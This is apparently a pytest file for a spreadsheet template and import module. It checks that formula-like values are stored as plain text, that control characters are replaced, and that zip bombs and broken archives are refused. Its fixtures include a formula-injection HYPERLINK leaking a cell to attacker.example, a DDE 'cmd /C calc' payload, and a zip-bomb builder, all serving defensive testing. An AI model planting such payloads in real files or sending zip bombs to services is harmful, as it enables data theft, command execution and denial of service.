"""What the templates and exports write is text as typed, never a formula, and a character no
worksheet holds does not fail the file; a workbook brought that would unpack to far more than
any real one (a zip bomb) is refused before it is unpacked."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from openpyxl import load_workbook

from engine.errors import InvalidData
from engine.usecases import spreadsheets
from engine.usecases.onboarding import PEOPLE_COLUMNS
from engine.usecases.spreadsheets import Column
from tests.world import xlsx_file

HEADERS = [c.header for c in PEOPLE_COLUMNS]
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&B3,"详情")'


def test_a_templates_rows_are_string_cells_as_typed_and_read_back_the_same():
    row = [HYPERLINK, "#N/A", "+8613800001111", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "=1", "a\x0bb"]
    content = spreadsheets.template("人员", PEOPLE_COLUMNS, None, [row])
    sheet = load_workbook(io.BytesIO(content))["人员"]
    cells = sheet[2]
    assert [c.data_type for c in cells] == ["s"] * 7
    assert [c.value for c in cells] == [
        '=HYPERLINK("http://attacker.example/?leak="&B3,"详情")',
        "#N/A",
        "+8613800001111",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "=1",
        "a\ufffdb",  # a vertical tab no worksheet holds: said, not a failed download
    ]
    [read] = spreadsheets.read("人员.xlsx", content, HEADERS).rows
    assert read.values["用户名"] == '=HYPERLINK("http://attacker.example/?leak="&B3,"详情")'
    assert (read.values["姓名"], read.values["单位代码"], read.values["角色"]) == ("#N/A", "+8613800001111", "-2+3")


def test_a_templates_headers_drop_downs_and_notes_are_string_cells_too():
    columns = [Column("=A1", 10, required=True, example="=B1", choices=["=C1", "普通"])]
    content = spreadsheets.template("单位", columns, {"=D1": "=E1\x01"})
    book = load_workbook(io.BytesIO(content))
    cells = [book["单位"]["A1"], book["单位"]["A2"], book["选项"]["A1"], book["选项"]["A2"]]
    cells += [book["说明"]["A1"], book["说明"]["B1"]]
    assert [(c.data_type, c.value) for c in cells] == [
        ("s", "=A1*"),
        ("s", "=B1"),
        ("s", "=A1"),
        ("s", "=C1"),
        ("s", "=D1"),
        ("s", "=E1\ufffd"),
    ]


def test_del_and_a_c1_control_are_written_as_what_says_something_was_there():
    # openpyxl writes them as they are, and a worksheet shows them as nothing
    row = ["王\x7f五", "a\x80b\x85c\x9f", "\t第一行\n第二行", "~\xa0é"]
    content = spreadsheets.template("人员", PEOPLE_COLUMNS, None, [row])
    cells = load_workbook(io.BytesIO(content))["人员"][2]
    assert [c.value for c in cells[:4]] == ["王\ufffd五", "a\ufffdb\ufffdc\ufffd", "\t第一行\n第二行", "~\xa0é"]


def zip_bomb(unpacked_mb: int) -> bytes:
    """A people workbook with one real row and, in a column no header names, a cell of
    ``unpacked_mb`` MB of "A": unpacked, that much XML; packed, about a thousandth of it."""
    small = xlsx_file(("人员", [["用户名*", "姓名*", "角色*"], ["bomb1", "王炸", "人大代表", "PADDING"]], []))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(small)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(member.filename, data)
                continue
            before, after = data.split(b"PADDING")
            with bomb.open(member.filename, "w", force_zip64=True) as sheet:
                sheet.write(before)
                chunk = b"A" * 1024 * 1024
                for _ in range(unpacked_mb):
                    sheet.write(chunk)
                sheet.write(after)
    return out.getvalue()


def test_a_workbook_that_would_unpack_to_more_than_100_mb_is_refused_before_it_is_unpacked():
    content = zip_bomb(101)
    assert len(content) < 1024 * 1024  # far below the 5 MB a file may be
    started = time.monotonic()
    with pytest.raises(InvalidData) as refused:
        spreadsheets.read("名册.xlsx", content, HEADERS)
    assert time.monotonic() - started < 1  # told from the zip's directory, nothing unpacked
    error = refused.value.codes["file"]
    assert (error.code, error.params) == ("file_unpacked_too_large", {"file": "名册.xlsx", "max_mb": 100})


def test_a_zip_that_is_no_workbook_and_a_broken_zip_are_unreadable_as_before():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    for content in (out.getvalue(), b"PK\x03\x04broken zip", out.getvalue()[:-10]):
        with pytest.raises(InvalidData) as refused:
            spreadsheets.read("名册.xlsx", content, HEADERS)
        error = refused.value.codes["file"]
        assert (error.code, error.params) == ("unreadable_file", {"file": "名册.xlsx"})


def _broken(member: str) -> bytes:
    """The people workbook with the packed data of one of its parts overwritten: its deflate
    stream begins with a block type that does not exist."""
    content = bytearray(xlsx_file(("人员", [["用户名*", "姓名*", "角色*"], ["wang5", "王五", "人大代表"]], [])))
    info = zipfile.ZipFile(io.BytesIO(bytes(content))).getinfo(member)
    local = content[info.header_offset : info.header_offset + 30]
    start = info.header_offset + 30 + int.from_bytes(local[26:28], "little") + int.from_bytes(local[28:30], "little")
    content[start : start + info.compress_size] = b"\xff" * info.compress_size
    return bytes(content)


@pytest.mark.parametrize("member", ["xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_a_workbook_whose_packed_data_is_broken_is_unreadable_not_an_error(member):
    with pytest.raises(InvalidData) as refused:
        spreadsheets.read("名册.xlsx", _broken(member), HEADERS)
    error = refused.value.codes["file"]
    assert (error.code, error.params) == ("unreadable_file", {"file": "名册.xlsx"})
